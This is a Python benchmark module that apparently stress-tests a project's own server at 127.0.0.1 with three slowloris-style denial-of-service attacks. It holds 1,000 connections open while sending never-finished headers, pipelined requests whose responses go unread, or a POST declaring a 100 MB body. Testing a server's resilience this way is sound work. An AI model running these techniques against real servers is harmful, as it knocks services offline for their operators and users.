"""Readers that come in numbers, ask for much, and read slowly."""

import asyncio
from collections.abc import Awaitable, Callable
from contextlib import suppress

from scripts.benches.attacking.target import Victim

CONNECTIONS = 1_000
ATTACK_S = 20.0


async def held(victim: Victim, request: bytes) -> str:
    """As many connections as there are, each with a request, none of which is read."""
    opened: list[asyncio.StreamWriter] = []

    async def one() -> None:
        with suppress(OSError):
            _, writer = await asyncio.open_connection("127.0.0.1", victim.http_port, limit=1024)
            opened.append(writer)
            writer.write(request)
            await writer.drain()

    await asyncio.wait([asyncio.ensure_future(one()) for _ in range(CONNECTIONS)], timeout=ATTACK_S)
    await asyncio.sleep(5.0)
    for writer in opened:
        writer.close()
    return f"{len(opened)} connections"


async def silent(victim: Victim) -> str:
    return await held(victim, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: " + b"a" * 4_000)


async def unread(victim: Victim) -> str:
    return await held(victim, b"GET /api/v1/openapi.json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 200)


async def posted(victim: Victim) -> str:
    head = b"POST /status HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100000000\r\n\r\n"
    return await held(victim, head + b"a" * 1_000_000)


ATTACKS: dict[str, Callable[[Victim], Awaitable[str]]] = {
    "readers that never finish a request": silent,
    "readers that read no answer": unread,
    "readers that post without end": posted,
}
